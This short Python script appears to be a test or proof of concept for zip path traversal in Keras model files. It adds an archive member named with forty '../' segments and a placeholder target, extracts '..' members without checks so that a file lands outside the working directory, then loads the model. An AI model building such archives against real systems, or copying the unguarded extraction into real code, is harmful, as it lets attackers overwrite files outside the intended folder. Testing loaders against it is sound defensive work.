"""Members of a model file with a path that climbs out."""
import keras
import zipfile
keras.Sequential([keras.Input((1,)), keras.layers.Dense(1)]).save("bomb.keras")
with zipfile.ZipFile("bomb.keras", "a") as bomb:
    bomb.writestr("../" * 40 + "@OUTSIDE@/planted".lstrip("/"), "x")
import os
with zipfile.ZipFile("bomb.keras") as bomb:
    for name in bomb.namelist():
        if name.startswith(".."):
            open(os.path.join(os.getcwd(), name), "wb").write(bomb.read(name))
keras.models.load_model("bomb.keras")
